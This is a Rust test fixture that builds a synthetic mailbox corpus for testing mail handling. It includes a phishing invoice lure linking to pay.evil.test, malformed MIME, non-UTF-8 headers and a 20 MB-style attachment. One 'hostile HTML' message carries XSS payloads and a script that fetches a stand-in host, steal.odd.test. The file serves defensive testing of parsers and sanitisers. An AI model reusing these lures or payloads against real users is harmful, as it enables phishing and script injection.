//! A mail corpus the tests generate: a phishing campaign (one URL to many mailboxes, subject
//! and body varying a little), a benign newsletter to the same people, and the awkward ones —
//! broken MIME, a 20 MB attachment, non-UTF-8 headers, hostile HTML.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};

pub const CAMPAIGN_URL: &str = "http://pay.evil.test/login";
pub const CAMPAIGN_SENDER: &str = "billing@evil.test";
pub const NEWSLETTER_URL: &str = "https://newsletter.test/issue";

/// Writes `raw` into the mailbox's folder as delivered now (Maildir file name = delivery time).
pub fn drop_message(root: &Path, mailbox: &str, folder: &str, raw: &[u8]) -> PathBuf {
    static SEQ: AtomicU64 = AtomicU64::new(0);
    let dir = root.join(mailbox);
    for sub in ["cur", "new", "tmp"] {
        std::fs::create_dir_all(dir.join(sub)).unwrap();
    }
    let folder_dir = if folder == "INBOX" {
        dir
    } else {
        dir.join(format!(".{folder}"))
    };
    for sub in ["cur", "new", "tmp"] {
        std::fs::create_dir_all(folder_dir.join(sub)).unwrap();
    }
    let n = SEQ.fetch_add(1, Ordering::Relaxed);
    let now = chrono::Utc::now().timestamp();
    let path = folder_dir
        .join("new")
        .join(format!("{now}.M{n}P{}.corpus", std::process::id()));
    std::fs::write(&path, raw).unwrap();
    path
}

pub fn campaign_message(n: usize, mailbox: &str) -> Vec<u8> {
    format!(
        "Message-ID: <campaign-{n}@evil.test>\r\nFrom: \"Billing\" <{CAMPAIGN_SENDER}>\r\nTo: {mailbox}\r\n\
Subject: Invoice {} overdue\r\nDate: Thu, 26 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=alt\r\n\r\n\
--alt\r\nContent-Type: text/plain\r\n\r\nDear customer {n}, pay at {CAMPAIGN_URL} today.\r\n\
--alt\r\nContent-Type: text/html\r\n\r\n<p>Dear customer {n}</p><a href=\"{CAMPAIGN_URL}\">Pay now</a>\r\n--alt--\r\n",
        1000 + n * 7
    )
    .into_bytes()
}

pub fn newsletter(n: usize, mailbox: &str) -> Vec<u8> {
    format!(
        "Message-ID: <news-{n}@newsletter.test>\r\nFrom: news@newsletter.test\r\nTo: {mailbox}\r\n\
Subject: The weekly garden newsletter\r\nDate: Thu, 26 Nov 2026 07:00:00 +0000\r\n\
Authentication-Results: mx.example.test; spf=pass; dkim=pass; dmarc=pass\r\n\r\n\
Read it at {NEWSLETTER_URL}\r\n"
    )
    .into_bytes()
}

/// A multipart message whose boundary never closes and whose parts lie about their encoding.
pub fn broken_mime(mailbox: &str) -> Vec<u8> {
    format!(
        "Message-ID: <broken@odd.test>\r\nFrom: odd@odd.test\r\nTo: {mailbox}\r\nSubject: broken\r\n\
Content-Type: multipart/mixed; boundary=\"never\"\r\n\r\n--never\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%not base64%%%\r\n--nev"
    )
    .into_bytes()
}

/// Latin-1 bytes in the headers, undeclared.
pub fn non_utf8(mailbox: &str) -> Vec<u8> {
    let mut raw = format!(
        "Message-ID: <latin1@odd.test>\r\nFrom: caf\u{e9}@odd.test\r\nTo: {mailbox}\r\nSubject: "
    )
    .into_bytes();
    raw.extend_from_slice(b"Caf\xe9 cr\xe8me \xff\r\n\r\nbody\r\n");
    raw
}

pub fn hostile_html(mailbox: &str) -> Vec<u8> {
    format!(
        "Message-ID: <hostile@odd.test>\r\nFrom: \"<script>alert(1)</script>\" <x@odd.test>\r\nTo: {mailbox}\r\n\
Subject: <img src=x onerror=alert(1)>\r\nContent-Type: text/html\r\n\r\n<script>fetch('http://steal.odd.test/x')</script>\
<a href=\"javascript:alert(1)\">x</a><a href='http://odd.test/ok'>ok</a>\r\n"
    )
    .into_bytes()
}

/// A message carrying `size` bytes of attachment; returns it and the attachment's SHA-256.
pub fn big_attachment(mailbox: &str, size: usize) -> (Vec<u8>, String) {
    use base64::Engine;
    use sha2::{Digest, Sha256};
    let content: Vec<u8> = (0..size).map(|i| (i % 251) as u8).collect();
    let hash = hex::encode(Sha256::digest(&content));
    let encoded = base64::engine::general_purpose::STANDARD.encode(&content);
    let mut raw = format!(
        "Message-ID: <big@odd.test>\r\nFrom: files@odd.test\r\nTo: {mailbox}\r\nSubject: the big file\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
--b\r\nContent-Type: application/octet-stream; name=\"big.bin\"\r\nContent-Transfer-Encoding: base64\r\n\
Content-Disposition: attachment; filename=\"big.bin\"\r\n\r\n"
    )
    .into_bytes();
    for line in encoded.as_bytes().chunks(76) {
        raw.extend_from_slice(line);
        raw.extend_from_slice(b"\r\n");
    }
    raw.extend_from_slice(b"--b--\r\n");
    (raw, hash)
}

/// The standard corpus: the campaign to `campaign_to`, the newsletter to everyone.
pub fn standard(root: &Path, campaign_to: &[&str], everyone: &[&str]) {
    for (n, mailbox) in campaign_to.iter().enumerate() {
        drop_message(root, mailbox, "INBOX", &campaign_message(n, mailbox));
    }
    for (n, mailbox) in everyone.iter().enumerate() {
        drop_message(root, mailbox, "INBOX", &newsletter(n, mailbox));
    }
}
